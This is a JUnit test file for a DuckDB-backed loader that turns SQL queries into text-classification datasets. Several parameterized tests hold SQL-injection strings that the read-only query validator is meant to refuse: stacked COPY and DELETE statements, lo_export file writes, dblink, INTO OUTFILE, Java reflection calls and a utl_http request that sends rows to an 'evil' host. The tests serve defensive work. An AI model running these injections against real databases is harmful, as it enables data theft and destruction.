package org.bakeoff.dataset.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.bakeoff.dataset.sql.Reviews.config;
import static org.bakeoff.dataset.sql.Reviews.load;

import com.github.luben.zstd.Zstd;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InterruptedIOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;
import org.bakeoff.api.DataSplits;
import org.bakeoff.api.Example;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that DuckDB reads. */
class SqlDatasetTest {

    private static final String QUERY = "SELECT body AS text, stars AS label FROM ";

    @TempDir
    private Path folder;

    @BeforeEach
    void files() throws Exception {
        Files.writeString(folder.resolve("a.csv"), Reviews.csv(20));
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(folder.resolve("a.csv.gz")))) {
            out.write(Reviews.csv(20).getBytes(StandardCharsets.UTF_8));
        }
        String table = "FROM '" + folder.resolve("a.csv") + "'";
        Reviews.duckDb(
                "COPY (" + table + ") TO '" + folder.resolve("a.parquet") + "'",
                "COPY (" + table + " LIMIT 8) TO '" + folder.resolve("part-1.parquet") + "'",
                "COPY (" + table + " OFFSET 8) TO '" + folder.resolve("part-2.parquet") + "'",
                "COPY (" + table + ") TO '" + folder.resolve("a.json") + "'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"'a.csv'", "'a.csv.gz'", "'a.parquet'", "'part-*.parquet'", "'a.json'", "read_csv('a.csv');"})
    void everyKindOfFileGivesTheSameExamples(String file) throws IOException {
        DataSplits data = load(config(folder, QUERY + file, "0.2"));
        DataSplits other = load(config(folder, QUERY + "'a.csv'", "0.2"));

        assertThat(data.info()).isEqualTo(other.info());
        assertThat(data.info().classes()).containsExactly("1", "5");
        assertThat(texts(data.train())).isEqualTo(texts(other.train())).hasSize(16);
        assertThat(texts(data.test())).isEqualTo(texts(other.test())).hasSize(4);
        assertThat(data.train()).allSatisfy(example -> assertThat(example.id()).matches("row-\\d+"));
    }

    @Test
    void columnsOfIdsAndGroupsAndAQueryForTheTestSet() throws IOException {
        DataSplits data = load(
                config(
                        folder,
                        "SELECT body AS text, stars AS label, author || '  ' AS author, 'r' || row_number() OVER () AS id FROM 'a.csv' WHERE body LIKE '%1%'",
                        "SELECT body AS text, stars AS label, author, 't' || row_number() OVER () AS id FROM 'a.csv' WHERE body NOT LIKE '%1%'"));
        assertThat(data.train())
                .hasSize(11)
                .allSatisfy(example -> assertThat(example.group()).matches("a\\d+"));
        assertThat(data.test()).extracting(Example::id).startsWith("t1", "t2").hasSize(9);
    }

    @Test
    void twoColumnsOfANameAndIdsOfBothSetsAreRefused() {
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> load(
                        config(folder, "SELECT a.body AS text, a.stars AS label, 1 AS Label FROM 'a.csv' AS a", "0.2")))
                .withMessageContaining("gives 2 columns 'label'");
        String numbered = "SELECT body AS text, stars AS label, author, row_number() OVER () AS id FROM 'a.csv'";
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> load(config(folder, numbered, numbered)))
                .withMessageContaining("the id '1' is that of a training text too");
    }

    @Test
    void rowsAreTheIdentityOfTheData() throws IOException {
        SqlConfig config = config(folder, QUERY + "'a.csv'", "0.2");
        String before = new SqlDataset().fingerprint(config, Reviews.LOCAL).orElseThrow();
        assertThat(new SqlDataset().fingerprint(config, Reviews.LOCAL)).contains(before);
        Files.writeString(folder.resolve("a.csv"), Reviews.csv(21));
        assertThat(new SqlDataset().fingerprint(config, Reviews.LOCAL).orElseThrow())
                .isNotEqualTo(before);
    }

    /** A query may have rows without end. */
    @Test
    void anInterruptEndsTheReadingOfRows() {
        SqlConfig config = config(folder, QUERY + "'a.csv'", "0.2");
        Thread.currentThread().interrupt();
        try {
            assertThatExceptionOfType(InterruptedIOException.class).isThrownBy(() -> load(config));
            assertThatExceptionOfType(InterruptedIOException.class)
                    .isThrownBy(() -> new SqlDataset().fingerprint(config, Reviews.LOCAL));
        } finally {
            assertThat(Thread.interrupted()).isTrue();
        }
    }

    @Test
    void messagesSayWhatToDo() {
        assertThat(refusal("SELECT body, stars AS label FROM 'a.csv'"))
                .isEqualTo(
                        "The query gives no column 'text'; it gives 'body', 'label'. Name the right one as \"text\", or write AS"
                                + " text in the query.");
        assertThat(refusal("SELECT body AS text, CASE WHEN stars = 5 THEN 'good' END AS label FROM 'a.csv'"))
                .startsWith("Row 2 of the query: the label is NULL.");
        assertThat(refusal(QUERY + "'none.parquet'"))
                .startsWith("The query fails: ")
                .endsWith("none.parquet\".")
                .doesNotContain("LINE");
        assertThat(refusal("SELECT text, label FROM read_csv('none.csv', header = true)"))
                .startsWith("The query fails: ")
                .endsWith("none.csv\".")
                .doesNotContain("LINE");
        assertThat(refusal("SELECT text, label FORM 'a.csv'"))
                .startsWith("The query fails: ")
                .contains("Parser Error");
        assertThat(refusal(QUERY + "'a.csv' WHERE stars = 5")).contains("all texts have the label '5'");
        assertThat(refusal(QUERY + "'a.csv' WHERE stars = 7")).startsWith("The query gives no rows");
        assertThat(refusal("SELECT body AS text, stars AS label, author AS id FROM 'a.csv'"))
                .contains("Row 2 of the query: the id 'a0' is that of an earlier row too");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "COPY (SELECT 1) TO 'evil.csv'",
                "CREATE TABLE reviews (text VARCHAR)",
                "SELECT body AS text, stars AS label FROM 'a.csv'; COPY (SELECT 1) TO 'evil.csv'",
                "-- select\nINSTALL httpfs",
                "SELECT ';' AS text, stars AS label FROM 'a.csv' /* ; */; ATTACH 'evil.db'",
                "SELECT $$'$$; COPY (SELECT 1) TO $$FOLDER/evil.csv$$; SELECT body AS text, stars AS label FROM 'a.csv'",
                "SELECT E'\\''; COPY (SELECT 1) TO 'FOLDER/evil.csv'; --'",
                "EXPLAIN ANALYZE COPY (SELECT 1) TO 'FOLDER/evil.csv'",
                "WITH c AS (COPY (SELECT 1) TO 'FOLDER/evil.csv') SELECT body AS text, stars AS label FROM 'a.csv'",
                "WITH c AS (COPY (SELECT 1) TO 'FOLDER/evil.csv') SELECT body AS text, stars AS label FROM 'a.csv', c",
                "SELECT body AS text, (WITH c AS (COPY (SELECT 1) TO 'FOLDER/evil.csv') FROM c) AS label FROM 'a.csv'",
                "WITH c AS (INSERT INTO a VALUES (1) RETURNING *) SELECT body AS text, stars AS label FROM 'a.csv'",
                "WITH c AS (DELETE FROM a RETURNING *) SELECT body AS text, stars AS label FROM 'a.csv'"
            })
    void queriesOnlyRead(String query) {
        assertThat(refusal(query.replace("FOLDER", folder.toString())))
                .startsWith("A query is one statement that reads");
        assertThat(folder.resolve("evil.csv")).doesNotExist();
    }

    @Test
    void aNameOfAFileIsReplacedWhereItStandsAlone() {
        String alias = "\"aaaaaa ; COPY (SELECT 1) TO '" + folder.resolve("evil.csv") + "' ; --\": ";
        for (String name : List.of(alias, "short: ", "\"'a.csv'\": ")) {
            assertThat(refusal(QUERY + name + "'a.csv'")).startsWith("The query must name each file in quotes");
        }
        assertThat(folder.resolve("evil.csv")).doesNotExist();
    }

    @Test
    void queriesMayHoldAnyTextAndComment() throws IOException {
        String literal = "; it''s ".repeat(5_000);
        String query = "/**/ /* ; */".repeat(40) + "SELECT body || '" + literal
                + "' AS text, stars AS label FROM 'a.csv' -- ;";
        assertThat(load(config(folder, query, "0.2")).train()).hasSize(16);
    }

    @Test
    void aDatabaseIsOnlyReadFrom() throws Exception {
        Path shop = folder.resolve("shop.db");
        Reviews.duckDb("ATTACH '" + shop + "'", "CREATE TABLE shop.reviews AS FROM '" + folder.resolve("a.csv") + "'");
        String url = SqlConfig.DUCKDB + shop;
        String count = "SELECT body AS text, stars AS label FROM reviews";

        assertThat(refusal(url, "WITH x AS (SELECT 1) DELETE FROM reviews RETURNING body AS text, stars AS label"))
                .startsWith("A query is one statement that reads");
        assertThat(load(config(url, null, folder, count, "0.2")).train()).hasSize(16);
        assertThat(refusal(SqlConfig.DUCKDB + folder.resolve("mistyped.db"), count))
                .contains("mistyped.db");
        assertThat(folder.resolve("mistyped.db")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e-100000000", "1e100000000"})
    void aShareIsANumberOfFewDigits(String share) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> config(folder, QUERY + "'a.csv'", share))
                .withMessageContaining("\"test\"");
    }

    @Test
    @Timeout(value = 30, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void millionsOfDigitsAreNoNumber() {
        assertThat(config(folder, QUERY + "'a.csv'", "+0." + "3".repeat(4_000_000))
                        .share())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1; DELETE FROM a",
                "SELECT '\\'; DELETE FROM a; --'",
                "SELECT $$'$$; DELETE FROM a; SELECT '",
                "/* select */ DELETE FROM a",
                "((((-- select\nDELETE FROM a",
                ""
            })
    void anotherDatabaseGetsOneStatementThatReads(String query) {
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> ReadingQuery.of(query))
                .withMessageStartingWith("A query is one statement that reads");
    }

    /** A server does it in a transaction that only reads, too. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT body AS text, label FROM reviews WHERE lo_export(42, '/tmp/evil') = 1",
                "SELECT pg_catalog.\"lo_export\"/* /* */ */(42, '/tmp/evil')",
                "SELECT U&\"lo\\005fexport\"(42, '/tmp/evil')",
                "SELECT query_to_xml('SELECT lo_ex' || 'port(42, ''/tmp/evil'')', true, false, '')",
                "SELECT PG_TERMINATE_BACKEND(pid) FROM pg_stat_activity",
                "SELECT * FROM dblink('', 'DELETE FROM reviews') AS t(text text)",
                "SELECT body FROM reviews INTO/**/OUTFILE '/tmp/evil'",
                "SELECT text, label FROM reviews, (SELECT count(*) AS n FROM pg_logical_slot_get_changes('s', NULL, NULL)) c",
                "SELECT (pg_replication_slot_advance('s', pg_current_wal_lsn())).end_lsn AS text, label FROM reviews",
                "SELECT pg_stat_statements_reset() AS text, label FROM reviews",
                "SELECT text, label, FILE_WRITE('evil', '/tmp/evil') FROM reviews",
                "SELECT text, label, \"CSVWRITE\"('/tmp/evil', 'SELECT 1') FROM reviews",
                "SELECT * FROM LINK_SCHEMA('a', 'org.Driver', 'jdbc:x', '', '', 'b')",
                "SELECT `java_method`('java.lang.System', 'exit', 1) AS text, label FROM reviews",
                "SELECT reflect /* a */ --b\n('java.lang.System', 'exit', 1) AS text, label FROM reviews",
                "SELECT \"java.lang.System.setProperty\"('a', 'b') AS text, label FROM reviews",
                "SELECT SYSTEM$CANCEL_ALL_QUERIES(1) AS text, label FROM reviews",
                "SELECT * FROM TABLE(pg.system.query(query => 'DELETE FROM reviews'))",
                "SELECT utl_http.request('http://evil/' || body) AS text, label FROM reviews"
            })
    void anotherDatabaseGetsNoQueryThatDoesMore(String query) {
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> ReadingQuery.of(query))
                .withMessageStartingWith("A query only reads, but this one names ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT body AS text, outfile_id AS label FROM dump_files",
                "SELECT \"lo_export2\" AS text, lo_res AS label FROM pg_filess",
                "SELECT U&'\\00e4' || body AS text, label FROM reviews",
                "SELECT ts_headline(body, to_tsquery('a')) AS text, label FROM reviews",
                "SELECT xmlserialize(CONTENT table_to_xml AS text) AS text, label FROM exports",
                "SELECT convert_from(lo_get(body), 'UTF8') AS text, label FROM reviews",
                "SELECT dbms_lob.substr(body, 4000) AS text, label FROM reviews",
                "SELECT reflect AS text, system AS label FROM reflections WHERE body LIKE '%reflects (a lot)%'",
                "SELECT query AS text, operating_system AS label FROM system.query_log",
                "SELECT slot_name AS text, active AS label FROM pg_replication_slots"
            })
    void anotherDatabaseGetsAQueryThatReads(String query) throws IOException {
        assertThat(ReadingQuery.of(query)).isEqualTo(query);
    }

    @Test
    void theStartOfAQueryIsFoundInTimeThatGrowsWithIt() throws IOException {
        assertThat(ReadingQuery.of("/**/".repeat(100_000) + "(".repeat(100_000) + "select 1; "))
                .endsWith("select 1");
        assertThatExceptionOfType(IOException.class)
                .isThrownBy(() -> ReadingQuery.of("/**/".repeat(100_000) + "INSERT"));
    }

    @Test
    void zstdThatIsCutIsRefused() throws IOException {
        Path file = folder.resolve("cut.csv.zst");
        byte[] bytes = Zstd.compress(Reviews.csv(20_000).getBytes(StandardCharsets.UTF_8));
        for (int length = 100; length < bytes.length; length += bytes.length / 50) {
            Files.write(file, Arrays.copyOf(bytes, length));
            assertThat(refusal(QUERY + "'cut.csv.zst'")).contains(file.toString());
        }
        Files.write(file, bytes);
        Files.write(file, Zstd.compress("good,1,ann\n".getBytes(StandardCharsets.UTF_8)), StandardOpenOption.APPEND);
        assertThat(load(config(folder, QUERY + "'cut.csv.zst'", "0.2")).train()).hasSize(16_001);
    }

    /** As pzstd compresses: before each frame stands one that is skipped. */
    @Test
    void zstdInPiecesThatIsCutIsRefused() throws IOException {
        byte[] skipped = {0x50, 0x2a, 0x4d, 0x18, 4, 0, 0, 0, 1, 2, 3, 4};
        byte[] texts = Reviews.csv(20_000).getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream pieces = new ByteArrayOutputStream();
        for (int start = 0; start < texts.length; start += 100_000) {
            pieces.writeBytes(skipped);
            pieces.writeBytes(Zstd.compress(Arrays.copyOfRange(texts, start, Math.min(start + 100_000, texts.length))));
        }
        byte[] bytes = pieces.toByteArray();
        Path file = folder.resolve("pieces.csv.zst");
        for (int length = 100; length < bytes.length; length += bytes.length / 50) {
            Files.write(file, Arrays.copyOf(bytes, length));
            assertThat(refusal(QUERY + "'pieces.csv.zst'")).startsWith(file + " is damaged or incomplete");
        }
        Files.write(file, bytes);
        assertThat(load(config(folder, QUERY + "'pieces.csv.zst'", "0.2")).train())
                .hasSize(16_000);
    }

    @Test
    void gzipWithoutItsChecksumIsRefused() throws Exception {
        Path file = folder.resolve("a.csv.gz");
        byte[] bytes = Files.readAllBytes(file);
        bytes[bytes.length - 8] ^= 1;
        Files.write(file, bytes);
        assertThat(refusal(QUERY + "'a.csv.gz'"))
                .startsWith(file + " is damaged or incomplete")
                .doesNotContain("..");

        Path shop = folder.resolve("shop.db");
        Reviews.duckDb(
                "ATTACH '" + shop + "' AS shop",
                "CREATE VIEW shop.\"it's a view\" AS FROM read_csv('" + folder + "/*.gz')",
                "CREATE MACRO shop.packed() AS TABLE FROM read_csv('" + file + "', compression='gzip')",
                "CREATE MACRO shop.named(name) AS TABLE FROM read_csv(name)");
        for (String from : List.of("\"it's a view\"", "packed()", "named('" + file + "')")) {
            assertThat(refusal(SqlConfig.DUCKDB + shop, QUERY + from)).startsWith(file + " is damaged or incomplete");
        }
    }

    @Test
    void nothingIsDownloaded() {
        assertThat(refusal(QUERY + "'https://127.0.0.1:1/reviews.parquet'")).contains("nothing is downloaded");
    }

    private String refusal(String query) {
        return refusal(SqlConfig.DUCKDB, query);
    }

    private String refusal(String url, String query) {
        return Reviews.refusal(config(url, null, folder, query, "0.2"));
    }

    private static List<String> texts(List<Example> examples) {
        return examples.stream().map(Example::text).toList();
    }
}
